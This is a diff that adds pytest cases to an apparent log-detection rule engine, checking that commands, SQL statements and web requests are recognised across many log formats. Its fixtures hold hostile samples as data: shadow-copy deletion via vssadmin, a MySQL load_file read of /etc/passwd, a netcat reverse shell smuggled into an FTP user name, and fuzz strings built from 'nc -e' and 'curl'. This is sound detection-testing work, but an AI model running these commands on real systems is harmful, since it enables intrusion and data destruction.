@@ -5,6 +5,7 @@ import time
 import pytest
 
 from aiscore_contract.forms.held import held_in, held_in_line
+from aiscore_rules import logsource
 from aiscore_rules.engine import RuleEngine
 from aiscore_rules.fields import read_facts
 from aiscore_rules.pack import default_pack_path, load_pack
@@ -26,6 +27,36 @@ COMMANDS = {
     "a syslog header": f'Nov 27 10:11:12 pc7 runner[33]: exec user=ann cmd="{COMMAND}"',
     "said": f"2026-11-27 10:00:00 INFO worker - Executing command: {COMMAND}",
     "said in a member": json.dumps({"level": "info", "msg": f"ran: {COMMAND}"}),
+    "a name that ends so": json.dumps({"host": "pc7", "processDetails": {"processCmd": COMMAND}}),
+    "a program and its arguments": json.dumps({"program": "vssadmin.exe", "args": "delete shadows /all /quiet", "user": "ann"}),
+    "a shell and its arguments": json.dumps({"event": "session.command", "program": "cmd.exe", "argv": ["/c", COMMAND], "path": "/bin/x"}),
+    "an attribute with its type": json.dumps({"attributes": [{"key": "process.command_line", "value": {"stringValue": COMMAND}}, {"key": "user", "value": {"stringValue": "ann"}}]}),
+    "an object as a text on a bus": json.dumps({"topic": "edr", "partition": 3, "key": "a", "value": json.dumps({"evt": "proc", "cmdline": COMMAND})}),
+    "an object as a text": json.dumps({"id": "1", "source": "edr", "payload": json.dumps({"evt": "proc", "cmdline": COMMAND})}),
+    "what was typed": json.dumps({"user": "ann", "asset": "db1", "session": "7f3a", "input": COMMAND}),
+    "keystrokes": json.dumps({"user": "ann", "keystrokes": COMMAND}),
+    "XML": f"<event><time>1</time><user>ann</user><commandLine>{COMMAND}</commandLine></event>",
+    "colons": f"EventID: 4688; Computer: PC7; User: ann; CommandLine: {COMMAND}; ParentProcessName: explorer.exe",
+    "cells with commas": f'2026-11-27 10:11:12,PC7,ACME\\ann,4711,"{COMMAND}",0',
+    "cells with semicolons": f"2026-11-27 10:11:12;PC7;ann;{COMMAND};0",
+    "cells with bars": f"2026-11-27 10:11:12|PC7|ann|{COMMAND}|0",
+    "cells with tabs": f"2026-11-27 10:11:12\tPC7\tann\t{COMMAND}\t0",
+    "a shell's trace": f"[2026-11-27T10:11:12.345Z] + {COMMAND}",
+    "a prompt": f"2026-11-27T10:11:12.345Z 00O $ {COMMAND}",
+    "a prompt in colours": f"\x1b[32;1m$ {COMMAND}\x1b[0;m",
+    "a logger's name": f"2026-11-27 10:11:12.3456|INFO|Acme.Ops.Runner|{COMMAND}",
+    "a hook of a prompt": f"Nov 27 10:11:12 db1 root: [ann@192.0.2.9]: /srv: {COMMAND}",
+    "a list of words": f"[2026-11-27T10:11:12] INFO - Running command: ['cmd.exe', '/c', '{COMMAND}']",
+    "a list of words in a pair": f"2026-11-27 10:11:12 [info] subprocess_started args=['cmd.exe', '/c', '{COMMAND}'] pid=4711",
+    "brackets": f"2026-11-27 10:11:12 INFO Executing shell command [{COMMAND}]",
+    "quotes in a sentence": f"2026-11-27 10:11:12 [salt.cmdmod][INFO] Executing command '{COMMAND}' in directory '/root'",
+    "a verb alone": f"I1127 10:11:12.345678    4711 runner.go:88] exec {COMMAND}",
+}
+STATEMENT = "SELECT load_file('/etc/passwd')"
+STATEMENTS = {
+    "a statement": json.dumps({"ts": 1, "db": "shop", "user": "web", "statement": STATEMENT}), "a query": json.dumps({"time": 1, "query": STATEMENT, "host": "db1"}),
+    "a pair": f'ts=1 user=web db=shop sql="{STATEMENT}" rows=1', "said": f"2026-11-27 10:11:12.345 WARN [pool] Slow query (2103 ms): {STATEMENT}",
+    "a logger": f"2026-11-27 10:11:12.345 DEBUG 1 --- [exec-1] org.hibernate.SQL : {STATEMENT}", "a syslog header": f"Nov 27 10:11:12 app1 shop[7]: slow query: {STATEMENT}",
 }
 REQUESTS = {
     "flat": json.dumps({"url": TARGET, "status": 200, "ip": "192.0.2.7"}),
@@ -34,6 +65,15 @@ REQUESTS = {
     "said in quotes": f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {TARGET}" 200 12ms',
     "said behind a logger": f"2026-11-27 10:00:00,123 INFO [http-1] c.x.Access - 192.0.2.7 GET {TARGET} took 12 ms",
     "a syslog header": f"Nov 27 10:11:12 web7 shop[33]: GET {TARGET} 200 in 12 ms",
+    "names of one's own": json.dumps({"t": 1, "ra": "192.0.2.7", "req": f"GET {TARGET} HTTP/1.1", "st": "200"}),
+    "an endpoint and a verb": json.dumps({"caller_ip": "192.0.2.7", "http_verb": "GET", "endpoint": TARGET, "response_code": 200}),
+    "parameters apart": json.dumps({"remote_addr": "192.0.2.7", "method": "GET", "uri": TARGET.partition("?")[0], "uri_args": TARGET.partition("?")[2], "status": 200}),
+    "attributes of a span": json.dumps({"name": "GET", "attributes": {"http.method": "GET", "http.target": TARGET, "net.peer.ip": "192.0.2.7"}}),
+    "attributes with their types": json.dumps({"attributes": [{"key": "http.method", "value": {"stringValue": "GET"}}, {"key": "http.target", "value": {"stringValue": TARGET}}]}),
+    "cells with bars": f"2026-11-27 10:11:12|192.0.2.7|GET|{TARGET}|200|12", "cells with tabs": f"2026-11-27T10:11:12Z\t192.0.2.7\tGET\t{TARGET}\t200\t12",
+    "cells with semicolons": f"2026-11-27 10:11:12;192.0.2.7;GET;{TARGET};200;12", "the word for it": f"2026-11-27 10:11:12 INFO [http-3] Filter - Request URL: {TARGET}",
+    "a request from somebody": f"2026-11-27 10:11:12 WARN gateway: request {TARGET} from 192.0.2.7 took 812ms",
+    "XML": f"<request><client>192.0.2.7</client><method>GET</method><uri>{TARGET}</uri><status>200</status></request>",
 }
 
 
@@ -51,6 +91,44 @@ def test_rules_find_a_request_by_what_its_members_are_called(form):
     assert titles(TARGET) <= titles(REQUESTS[form])
 
 
+@pytest.mark.parametrize("form", STATEMENTS)
+def test_rules_find_a_statement_by_what_its_member_or_the_words_before_it_say(form):
+    assert "MySQL told to read a file of the system" in titles(STATEMENTS[form])
+
+
+@pytest.mark.parametrize("event", [
+    {"statement": "We select the best from all"}, {"query": "select.example.com"}, {"text": "select a colour from the list", "event": "note"}, {"query": "query Orders { orders { id } }"},
+])
+def test_words_that_begin_as_a_statement_does_are_none(event):
+    assert "held.statement" not in read_facts(json.dumps(event)).fields
+
+
+@pytest.mark.parametrize("text", [
+    f"2026-11-27 10:11:12 INFO search - user ann searched: {COMMAND}", f"Nov 27 10:11:12 web7 shop[33]: login failed for user x: {COMMAND}", f"2026-11-27 10:11:12 WARN Login failed: {COMMAND}",
+    f"2026-11-27 10:11:12 WARN vpn: invalid user x executing command: {COMMAND}", f"Nov 27 10:11:12 mx1 mailgw[33]: subject: {COMMAND}", f'2026-11-27 10:11:12 login user="x; {COMMAND}" failed',
+    json.dumps({"event": "search", "input": COMMAND}), json.dumps({"level": "info", "input": COMMAND, "model": "m1"}), json.dumps({"event": "chat", "text": f"run: {COMMAND}"}),
+    json.dumps({"key": "username", "value": json.dumps({"cmdline": COMMAND})}), json.dumps({"payload": json.dumps({"cmdline": COMMAND}), "path": "/hook", "method": "POST"}),
+    json.dumps({"proc": {"pcmdline": COMMAND}}), json.dumps({"parentCommand": COMMAND}), json.dumps({"program": "sshd", "message": f"Invalid user run: {COMMAND}"}),
+])
+def test_what_somebody_gave_is_no_command_that_was_run(text):
+    assert read_facts(text).fields.get("commandline") is None
+
+
+@pytest.mark.parametrize("line", [
+    "2026-11-27 10:11:12 ERROR docker daemon is not running", "2026-11-27 10:11:12 INFO Started python worker 7 of 9", "2026-11-27 10:11:12 [INFO] nmap scan of 192.0.2.0/24 by ann",
+    "Jan 14 11:01:19 web7 ftp[4]: FTP session opened. USER a;nc 192.0.2.7 31337 -e /bin/sh", "2026-11-27 10:11:12,345 WARN [x] a.b.Reach: /etc/ld.so.preload changed to /usr/local/lib/x.so",
+    "2026-11-27 10:11:12;INFO;find customer by id;3", "2026-11-27 10:11:12|INFO|git push rejected by remote|3", "2026-11-27 10:11:12|INFO|copy /srv/a to /srv/b|3",
+    "2026-11-27 10:11:12 INFO: Read-Only mode on", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|COPY tickets TO PROGRAM 'gzip > /srv/a.gz'|3", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
+    "Nov 27 10:11:12 gw7 box: src=192.0.2.7 url=https://shop.example/a?b=c action=allowed",
+])
+def test_words_of_a_line_that_name_a_program_or_a_page_are_no_act(line):
+    assert held_in_line(line) is None
+
+
+def test_a_look_up_by_jndi_has_rules_for_every_log():
+    assert logsource.Labels(told=True).admit(("", logsource.ANY, ""))
+
+
 @pytest.mark.parametrize("event", [
     {"body": {"cmdline": COMMAND}, "user": "ann"}, {"request": {"params": {"cmd": COMMAND}}}, {"parent": {"cmdline": COMMAND}},
     {"requestParameters": {"command": COMMAND}, "eventName": "SendCommand"}, {"headers": {"cmd": COMMAND}},
@@ -61,7 +139,7 @@ def test_what_was_sent_or_is_of_another_program_is_no_command_that_was_run(event
 
 @pytest.mark.parametrize("event", [
     {"command": "start"}, {"command": "Save file as"}, {"cmd": "", "user": "ann"}, {"command": None}, {"msg": "Command: start the engine"}, {"script": "deploy"},
-    {"url": TARGET, "user": "ann"}, {"path": "/etc/passwd", "status": 200}, {"url": "https://shop.example/a", "ip": "192.0.2.7", "event": "clicksBlocked"[:6]},
+    {"url": TARGET, "user": "ann"}, {"eventId": "6f", "requestUrl": TARGET, "clientIp": "192.0.2.7"}, {"path": "/etc/passwd", "status": 200}, {"url": "https://shop.example/a", "ip": "192.0.2.7", "event": "clicksBlocked"[:6]},
     {"msg": "we GET along with /etc"}, {"status": 200, "ip": "192.0.2.7"},
 ])
 def test_nothing_is_guessed_from_a_name_alone(event):
@@ -89,7 +167,9 @@ def test_the_act_that_an_object_names_goes_before_an_address_in_it():
 
 @pytest.mark.parametrize("text", [
     '"GET /' * 4_000, "GET /a" * 6_000, "cmd=" * 8_000, 'a_cmd="' * 5_000, "executing command: " * 2_000, "command " * 4_000, "run: " * 6_000, "=cmd" * 8_000,
-    "_" * 32_000 + "cmd=", json.dumps({f"cmd{'_' * number}": "x " * 100 for number in range(300)}), json.dumps({"msg": ["GET /" + "a" * 200] * 300}),
+    "_" * 32_000 + "cmd=", "| nc -e " * 4_000, "; curl -s " * 4_000, ": /bin/a -b" * 3_000, "]: " * 10_000, "ran ['" * 5_000, "args=['a'," * 3_000, "GET;/a;" * 5_000, "|GET|/" + ";1" * 15_000,
+    "request /a?" * 3_000, "request url: " * 3_000, "query: select " * 3_000, "slow query: select " + "a " * 15_000, "<a>" * 10_000 + "</a>", "<a>b</a>" * 4_000, "\x1b[" * 10_000, 'exec "' * 5_000,
+    "login " * 6_000, "user " * 5_000 + ": nc -e /bin/sh", json.dumps({"args": "[" + "'a'," * 5_000}), json.dumps({"sql": "select " + "(" * 20_000}), json.dumps({f"cmd{'_' * number}": "x " * 100 for number in range(300)}), json.dumps({"msg": ["GET /" + "a" * 200] * 300}),
     json.dumps({"cmd": {"cmd": {"cmd": ["a" * 5_000] * 6}}}), json.dumps({"cmdline": '"'}), json.dumps({"cmdline": "\u2028"}), json.dumps({"argv": [[], {}, None, 7, ""]}),
 ])
 def test_hostile_members_are_read_in_no_time(text):
